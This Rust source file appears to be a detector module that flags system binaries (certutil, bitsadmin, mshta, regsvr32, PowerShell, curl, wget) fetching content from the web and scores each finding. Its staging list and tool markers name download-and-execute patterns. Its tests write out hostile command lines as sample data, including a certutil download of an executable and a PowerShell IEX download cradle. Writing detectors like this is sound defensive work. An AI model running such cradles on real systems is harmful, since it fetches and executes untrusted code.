//! `lolbin-download` — system tools made to fetch content from the web.
//!
//! Input: process starts (Sysmon 1, Security 4688, auditd execve) whose image is one of
//! [`TOOLS`] and whose command line fetches a URL the way that tool does it (certutil
//! `-urlcache`, bitsadmin `/transfer`, PowerShell `DownloadString`/`Invoke-WebRequest`/
//! `Net.WebClient`, mshta or rundll32 with a URL, regsvr32 `/i:http…` scrobj, msiexec with a
//! URL, curl/wget saving or piping a URL); the capture's HTTP exchanges of the same host to
//! the URL's host within `pair_window_s`. Output: one finding per process start.
//!
//! Score (every part in `components`):
//!
//! - `tool` = the tool's weight: `proxy_weight` for certutil, bitsadmin, mshta, regsvr32,
//!   rundll32, msiexec (signed binaries proxying a download, LOLBAS), `cradle_weight` for a
//!   PowerShell download cradle, `client_weight` for curl and wget (made to download)
//! - `rarity` = the baseline's rarity of the URL's host (1 for a raw address)
//! - `raw_address` = 1 when the URL names an address, not a host name
//! - `staging` = 1 when the download lands in a world-writable or temporary place, or is piped
//!   into a shell or `IEX` ([`STAGING`])
//! - `executable_body` = 1 for a PE/ELF/Mach-O response body in the paired HTTP exchange, 0.8
//!   for a script, else 0
//! - `capture_confirmed` = 1 when an HTTP exchange was paired
//! - `known_source` = 1 when curl or wget fetch from a software vendor's or code host's domain
//!   ([`KNOWN_SOURCES`]): the score is damped by `known_damp` (a signed proxy binary or a
//!   PowerShell cradle fetching from GitHub is no developer habit and is not damped)
//!
//! score = (tool + weight_rarity·rarity + weight_raw·raw_address + weight_staging·staging
//! + weight_body·executable_body + weight_capture·capture_confirmed)·(1 − known_damp·known_source)
//!
//! ATT&CK: Ingress Tool Transfer (TA0011 command and control, T1105); BITS Jobs T1197 for
//! bitsadmin; System Binary Proxy Execution T1218.005 (mshta), .010 (regsvr32), .011
//! (rundll32), .007 (msiexec).
//!
//! Memory: at most [`MAX_PAIRED`] HTTP exchanges are paired per download.

use super::webshell::{exe_name, short};
use super::{check, domain, DetectCtx, Detector, EvidenceRef, Finding, Tactic, Thresholds};
use crate::model::{Event, EventKind, Fields};
use serde::Deserialize;
use std::net::IpAddr;

/// HTTP exchanges paired with one download at most.
pub const MAX_PAIRED: usize = 10;

const SEC: f64 = 1e9;

/// How a tool fetches.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Class {
    /// A signed system binary proxying a download (LOLBAS).
    Proxy,
    /// A PowerShell download cradle.
    Cradle,
    /// A download client (curl, wget).
    Client,
}

/// Tools, the command-line markers that make a URL in their command line a fetch (empty: any
/// URL), their class and technique. Sources: LOLBAS (certutil, bitsadmin, mshta, regsvr32,
/// rundll32, msiexec, PowerShell), GTFOBins (curl, wget).
const TOOLS: &[(&str, &[&str], Class, &str)] = &[
    ("certutil", &["urlcache", "verifyctl", "-url", "/url"], Class::Proxy, "T1105"),
    ("bitsadmin", &["/transfer", "/addfile", "/download", "/setnotifycmdline"], Class::Proxy, "T1197"),
    ("mshta", &[], Class::Proxy, "T1218.005"),
    ("regsvr32", &["/i:", "-i:"], Class::Proxy, "T1218.010"),
    ("rundll32", &[], Class::Proxy, "T1218.011"),
    ("msiexec", &[], Class::Proxy, "T1218.007"),
    (
        "powershell",
        &[
            "downloadstring",
            "downloadfile",
            "downloaddata",
            "invoke-webrequest",
            "iwr ",
            "invoke-restmethod",
            "irm ",
            "net.webclient",
            "start-bitstransfer",
            "wget ",
            "curl ",
        ],
        Class::Cradle,
        "T1105",
    ),
    (
        "pwsh",
        &["downloadstring", "downloadfile", "invoke-webrequest", "iwr ", "invoke-restmethod", "irm ", "net.webclient"],
        Class::Cradle,
        "T1105",
    ),
    ("curl", &["-o", "--output", "-O", "--remote-name", "|"], Class::Client, "T1105"),
    ("wget", &[], Class::Client, "T1105"),
];

/// Where staged downloads land, or what runs them at once.
pub const STAGING: &[&str] = &[
    "\\temp\\",
    "%temp%",
    "\\appdata\\",
    "\\users\\public\\",
    "\\programdata\\",
    "\\windows\\tasks\\",
    "$env:temp",
    "/tmp/",
    "/dev/shm",
    "/var/tmp",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "iex",
    "invoke-expression",
    "chmod +x",
];

/// Software vendors' and code hosts' download domains (registrable), where developers and
/// updaters fetch from every day.
pub const KNOWN_SOURCES: &[&str] = &[
    "github.com",
    "githubusercontent.com",
    "gitlab.com",
    "microsoft.com",
    "windowsupdate.com",
    "pypi.org",
    "pythonhosted.org",
    "npmjs.org",
    "crates.io",
    "golang.org",
    "go.dev",
    "ubuntu.com",
    "debian.org",
    "docker.com",
    "docker.io",
    "apache.org",
    "mozilla.org",
];

#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
struct Config {
    proxy_weight: f64,
    cradle_weight: f64,
    client_weight: f64,
    weight_rarity: f64,
    weight_raw: f64,
    weight_staging: f64,
    weight_body: f64,
    weight_capture: f64,
    known_damp: f64,
    pair_window_s: f64,
    min_score: f64,
}

impl Default for Config {
    fn default() -> Self {
        Config {
            proxy_weight: 0.5,
            cradle_weight: 0.45,
            client_weight: 0.1,
            weight_rarity: 0.15,
            weight_raw: 0.1,
            weight_staging: 0.1,
            weight_body: 0.2,
            weight_capture: 0.05,
            known_damp: 0.5,
            pair_window_s: 120.0,
            min_score: 0.2,
        }
    }
}

pub struct LolbinDownload;

impl Detector for LolbinDownload {
    fn id(&self) -> &'static str {
        "lolbin-download"
    }

    fn describe(&self) -> &'static str {
        "certutil, bitsadmin, mshta, regsvr32, PowerShell, curl, wget fetching from the web"
    }

    fn validate(&self, t: &Thresholds) -> Result<(), String> {
        check::<Config>(t, self.id())
    }

    fn run(&self, ctx: &DetectCtx<'_>) -> Vec<Finding> {
        let c: Config = ctx.thresholds.section(self.id());
        let mut out = Vec::new();
        for &e in &ctx.endpoint {
            if let Some(f) = judge(ctx, &c, e) {
                if f.score >= c.min_score {
                    out.push(f);
                }
            }
        }
        out
    }
}

/// The first http(s) URL in a command line.
fn url_in(cmd: &str) -> Option<&str> {
    let lower = cmd.to_ascii_lowercase();
    let at = lower.find("http://").or_else(|| lower.find("https://"))?;
    let rest = cmd.get(at..)?;
    let end =
        rest.find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | ';' | ',' | '`')).unwrap_or(rest.len());
    Some(&rest[..end])
}

/// Host of a URL (no port, no credentials, no brackets).
fn url_host(url: &str) -> String {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let auth = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let auth = auth.rsplit('@').next().unwrap_or(auth);
    let host = if let Some(v6) = auth.strip_prefix('[') {
        v6.split(']').next().unwrap_or(v6)
    } else {
        auth.split(':').next().unwrap_or(auth)
    };
    host.to_ascii_lowercase()
}

fn judge(ctx: &DetectCtx<'_>, c: &Config, e: &Event) -> Option<Finding> {
    if e.kind != EventKind::Process {
        return None;
    }
    let Fields::Endpoint(x) = &e.fields else { return None };
    if x.action != "process-start" {
        return None;
    }
    let p = e.process.as_ref()?;
    let cmd = p.command_line.as_deref()?;
    let name = exe_name(p.executable.as_deref().or_else(|| cmd.split_whitespace().next())?);
    let &(tool, markers, class, technique) = TOOLS.iter().find(|t| t.0 == name)?;
    let url = url_in(cmd)?;
    let lower = cmd.to_ascii_lowercase();
    if !markers.is_empty()
        && !markers.iter().any(|m| {
            if m.starts_with("-O") || *m == "-o" {
                cmd.split_whitespace().any(|w| w == *m)
            } else {
                lower.contains(m)
            }
        })
    {
        return None;
    }
    let host_name = url_host(url);
    let raw = host_name.parse::<IpAddr>().ok();
    let rarity = match raw {
        Some(_) => 1.0,
        None => ctx
            .baseline
            .rarity(ctx.baseline.fqdn_prevalence(&host_name).max(ctx.baseline.domain_prevalence(&host_name))),
    };
    let known = class == Class::Client && raw.is_none() && KNOWN_SOURCES.iter().any(|k| domain::matches(&host_name, k));
    let staging = STAGING.iter().any(|s| lower.contains(s));
    // The capture's HTTP exchanges of this host to the URL's host around the start.
    let acting = ctx.endpoint_host(e);
    let window = (c.pair_window_s * SEC) as i64;
    let from = e.ts.saturating_sub(window);
    let start = ctx.http.partition_point(|h| h.ts < from);
    let mut paired: Vec<&Event> = Vec::new();
    let mut body: f64 = 0.0;
    for &h in ctx.http[start..].iter().take_while(|h| h.ts <= e.ts.saturating_add(window)) {
        let (Some(n), Fields::Http(f)) = (&h.net, &h.fields) else { continue };
        if acting.ip.is_some_and(|ip| ip != n.src_ip) {
            continue;
        }
        let header = f.host.as_deref().map(|s| url_host(&format!("http://{s}"))).unwrap_or_default();
        let same = header == host_name || raw == Some(n.dst_ip);
        if same && paired.len() < MAX_PAIRED {
            paired.push(h);
            body = body.max(match f.response_body_type.as_deref() {
                Some("pe" | "elf" | "macho") => 1.0,
                Some("script" | "java-class") => 0.8,
                _ => 0.0,
            });
        }
    }
    let tool_weight = match class {
        Class::Proxy => c.proxy_weight,
        Class::Cradle => c.cradle_weight,
        Class::Client => c.client_weight,
    };
    let b = |x: bool| if x { 1.0 } else { 0.0 };
    let confirmed = b(!paired.is_empty());
    let score = (tool_weight
        + c.weight_rarity * rarity
        + c.weight_raw * b(raw.is_some())
        + c.weight_staging * b(staging)
        + c.weight_body * body
        + c.weight_capture * confirmed)
        * (1.0 - c.known_damp * b(known));
    let mut evidence: Vec<EvidenceRef> = vec![ctx.event_evidence(e)];
    for h in &paired {
        evidence.push(ctx.event_evidence(h));
        if let Some(f) = ctx.flow_of(h) {
            evidence.push(ctx.flow_evidence(f));
        }
    }
    let tactic = if technique.starts_with("T1218") { Tactic::DefenseEvasion } else { Tactic::CommandAndControl };
    let mut f = Finding::new("lolbin-download", tactic, technique, score)
        .component("tool", tool_weight)
        .component("rarity", rarity)
        .component("raw_address", b(raw.is_some()))
        .component("staging", b(staging))
        .component("executable_body", body)
        .component("capture_confirmed", confirmed)
        .component("known_source", b(known))
        .component("exchanges", paired.len() as f64)
        .window(e.ts, paired.iter().map(|h| h.ts).max().unwrap_or(e.ts).max(e.ts))
        .summary(format!(
            "{tool} on {} fetched {}{}",
            acting.name.clone().unwrap_or_else(|| "?".into()),
            short(url, 160),
            if paired.is_empty() {
                String::new()
            } else {
                format!(" ({} HTTP exchange(s) in the capture)", paired.len())
            }
        ))
        .evidence(evidence);
    f.process = ctx.event_process(e);
    f.peer = crate::detect::Peer {
        ip: raw.or_else(|| paired.first().and_then(|h| h.net.as_ref()).map(|n| n.dst_ip)),
        domain: if raw.is_none() { Some(host_name) } else { None },
        port: paired.first().and_then(|h| h.net.as_ref()).map(|n| n.dst_port),
        cidr: None,
    };
    f.host = acting;
    Some(f)
}

#[cfg(test)]
mod tests {
    use super::super::testkit::{background, endpoint_fields, Bundle};
    use super::super::Severity;
    use super::*;
    use crate::model::{LogSource, ProcessRef};

    #[test]
    fn defaults_match_the_thresholds_file() {
        let t = Thresholds::defaults();
        assert_eq!(t.try_section::<Config>("lolbin-download"), Ok(Config::default()));
    }

    fn start(b: &mut Bundle, host: &str, at: f64, source: LogSource, image: &str, cmd: &str) {
        let e = b.endpoint(host, at, EventKind::Process, source, "process-start", "1", &[]);
        e.process = Some(Box::new(ProcessRef {
            pid: Some(4242),
            executable: Some(image.into()),
            command_line: Some(cmd.into()),
            ..ProcessRef::default()
        }));
        endpoint_fields(e).target = Some(image.into());
    }

    #[test]
    fn urls_and_hosts() {
        assert_eq!(
            url_in("certutil -urlcache -f \"http://1.2.3.4:8080/a.exe\" a.exe"),
            Some("http://1.2.3.4:8080/a.exe")
        );
        assert_eq!(url_host("https://user@Evil.Example:443/x?y"), "evil.example");
        assert_eq!(url_host("http://[2001:db8::1]:80/"), "2001:db8::1");
    }

    #[test]
    fn certutil_fetching_a_pe_the_capture_saw_is_critical() {
        let mut b = Bundle::default();
        background(&mut b, 6);
        b.asset("10.0.0.5", Some("WS05.corp.example"), true);
        start(
            &mut b,
            "WS05.corp.example",
            100.0,
            LogSource::Sysmon,
            "C:\\Windows\\System32\\certutil.exe",
            "certutil.exe -urlcache -split -f http://update-cdn.example.net/u.exe C:\\Users\\Public\\u.exe",
        );
        let fl = b.tcp("10.0.0.5", "45.77.9.9", 80, 101.0, 1.0, 200, 90_000);
        b.http(fl, "GET", "update-cdn.example.net", "/u.exe").response_body_type = Some("pe".into());
        let f = b.run(&LolbinDownload);
        assert_eq!(f.len(), 1, "{f:#?}");
        let f = &f[0];
        // The host is the only one of seven to use the name: rarity 6/7.
        // 0.5 + 0.15·6/7 + 0 + 0.1·1 + 0.2·1 + 0.05·1 = 0.9786
        assert!((f.components["rarity"] - 6.0 / 7.0).abs() < 1e-4);
        assert!((f.score - 0.9786).abs() < 1e-4, "{}", f.score);
        assert_eq!(f.severity, Severity::Critical);
        assert_eq!(f.technique, "T1105");
        assert_eq!(f.host.ip, "10.0.0.5".parse().ok());
        assert_eq!((f.peer.ip, f.peer.domain.as_deref()), ("45.77.9.9".parse().ok(), Some("update-cdn.example.net")));
        assert_eq!(f.evidence_total, 3, "process start, HTTP exchange, flow");
        assert_eq!(f.process.as_ref().map(|p| p.source.as_str()), Some("sysmon"));
    }

    #[test]
    fn a_developers_curl_to_github_stays_low_and_plain_runs_are_nothing() {
        let mut b = Bundle::default();
        background(&mut b, 6);
        start(
            &mut b,
            "dev01",
            100.0,
            LogSource::Auditd,
            "/usr/bin/curl",
            "curl -L -o tool.tar.gz https://github.com/org/tool/releases/download/v1/tool.tar.gz",
        );
        start(&mut b, "dev01", 110.0, LogSource::Auditd, "/usr/bin/curl", "curl https://api.example.com/health");
        start(
            &mut b,
            "WS05",
            120.0,
            LogSource::Sysmon,
            "C:\\Windows\\System32\\certutil.exe",
            "certutil -hashfile a.exe SHA256",
        );
        let f = b.run(&LolbinDownload);
        assert!(f.len() <= 1, "{f:#?}");
        // (0.1 + 0.15·1)·(1 − 0.5) = 0.125: below min_score.
        assert!(f.iter().all(|f| f.score < 0.3), "{f:#?}");
    }

    #[test]
    fn a_powershell_cradle_piped_into_iex_is_medium_without_the_capture() {
        let mut b = Bundle::default();
        start(
            &mut b,
            "WS05",
            100.0,
            LogSource::Security,
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.9.9.9/a.ps1')\"",
        );
        let f = b.run(&LolbinDownload);
        assert_eq!(f.len(), 1, "{f:#?}");
        // 0.45 + 0.15·1 (a raw address) + 0.1 + 0.1 = 0.8
        assert!((f[0].score - 0.8).abs() < 1e-9, "{}", f[0].score);
        assert_eq!(f[0].peer.ip, "10.9.9.9".parse().ok());
    }
}
